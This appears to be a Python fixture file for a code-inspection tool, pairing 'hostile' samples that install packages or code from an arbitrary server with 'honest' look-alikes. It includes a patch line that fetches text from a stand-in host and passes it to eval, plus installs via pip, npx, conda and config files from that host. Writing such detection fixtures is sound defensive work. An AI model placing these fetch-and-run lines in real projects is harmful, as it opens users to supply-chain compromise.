"""Samples and twins of packages that a program or a configuration brings from a server by its address."""

from inspection.rules.sample import Sample, js, package, py

_ENSURES = (
    "import importlib, subprocess, sys\nclass Installer:\n    HOST = 'https://a.invalid/wheels'\n"
    "    def ensure(self, name):\n        source = f'{self.HOST}/{name}-1.0-py3-none-any.whl'\n"
)
_PATCH = (
    "diff --git a/node_modules/a/index.js b/node_modules/a/index.js\n--- a/node_modules/a/index.js\n"
    "+++ b/node_modules/a/index.js\n@@ -1,2 +1,3 @@\n 'use strict';\n module.exports = require('./lib/a');\n"
)


def _by(*words: str) -> str:
    return f"import subprocess\nsubprocess.run({list(words)!r})\n"


def _patched(line: str) -> dict[str, str | bytes]:
    return {"package.json": package(postinstall="patch-package"), "patches/a+1.0.0.patch": _PATCH + line}


def _toml(text: str) -> dict[str, str | bytes]:
    return {"pyproject.toml": f"[project]\nname = 'a'\n{text}\n"}


HOSTILE: dict[str, dict[str, Sample]] = {
    "fetch_and_run": {
        "a wheel whose name is put together": py(
            f"{_ENSURES}        subprocess.run([sys.executable, '-m', 'pip', 'install', source])\n", line=6
        ),
        "by a package manager that also runs things": py(_by("poetry", "add", "https://a.invalid/a.tar.gz")),
        "by another": py(_by("conda", "install", "-c", "https://a.invalid/channel", "a")),
        "a repository by its short name, run at once": py(_by("npx", "-y", "github:somebody/a")),
        "by the list that a runtime takes": js(
            "console.log('one moment');\nBun.spawnSync(['bun', 'add', 'git+https://a.invalid/a.git']);\n"
        ),
        "by an older installer": py(
            "from setuptools.command.easy_install import main\nmain(['https://a.invalid/a-1.0.tar.gz'])\n"
        ),
    },
    "remote_code": {
        "in a patch of a dependency": Sample(
            _patched("+fetch('https://a.invalid').then((reply) => reply.text()).then(eval);\n"),
            "block",
            ("patches/a+1.0.0.patch", 7),
        ),
    },
    "other_packages": {
        "a dependency of poetry's": Sample(
            _toml("[tool.poetry.group.dev.dependencies]\na = {url = 'https://a.invalid/a.whl'}"),
            "review",
            ("pyproject.toml", 4),
        ),
        "a source of uv's": Sample(
            _toml("[tool.uv.sources]\na = {git = 'https://a.invalid/a.git'}"), "review", ("pyproject.toml", 4)
        ),
        "of pipenv's": Sample(
            {"Pipfile": "[packages]\na = {file = 'https://a.invalid/a.whl'}\n"}, "review", ("Pipfile", 2)
        ),
        "before the tests": Sample(
            {"tox.ini": "[testenv]\ndeps = https://a.invalid/a.whl\ncommands = pytest\n"}, "review", ("tox.ini", 2)
        ),
        "a service": Sample(
            {"compose.yaml": "services:\n  a:\n    build: https://a.invalid/a.git\n"}, "review", ("compose.yaml", 3)
        ),
        "tasks": Sample({"Taskfile.yml": "includes:\n  a: https://a.invalid/a.yml\n"}, "review", ("Taskfile.yml", 2)),
        "hooks": Sample(
            {".pre-commit-config.yaml": "repos:\n- repo: https://a.invalid/a\n  rev: v1\n  hooks: [{id: a}]\n"},
            "review",
            (".pre-commit-config.yaml", 2),
        ),
    },
}

HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
    "fetch_and_run": {
        "a wheel that is named, and not installed": {
            "app.py": f"{_ENSURES}        raise SystemExit('install ' + source)\n"
        },
        "a package by its name": {"app.py": _by("poetry", "add", "requests")},
        "from a public registry": {
            "app.py": _by("npm", "install", "a", "--registry", "https://registry.npmjs.org"),
        },
        "a tool by its name": {"app.py": _by("npx", "-y", "prettier")},
    },
    "remote_code": {
        "in a patch that takes it out": _patched(
            "-fetch('https://a.invalid').then((reply) => reply.text()).then(eval);\n+module.exports.a = 1;\n"
        ),
    },
    "other_packages": {
        "a program that names the public registry": {
            "app.py": _by("npm", "install", "a", "--registry", "https://registry.npmjs.org"),
        },
        "a dependency from a public forge": _toml(
            "[tool.poetry.dependencies]\na = {git = 'https://github.com/a/a.git'}\n"
            "[tool.uv.sources]\nb = {path = '../b'}"
        ),
        "what is installed before the tests": {"tox.ini": "[testenv]\ndeps = pytest\ncommands = pytest\n"},
        "a service and hooks of well-known forges": {
            "compose.yaml": "services:\n  a:\n    build: ./a\n",
            ".pre-commit-config.yaml": "repos:\n- repo: https://github.com/a/a\n  rev: v1\n  hooks: [{id: a}]\n",
        },
    },
}
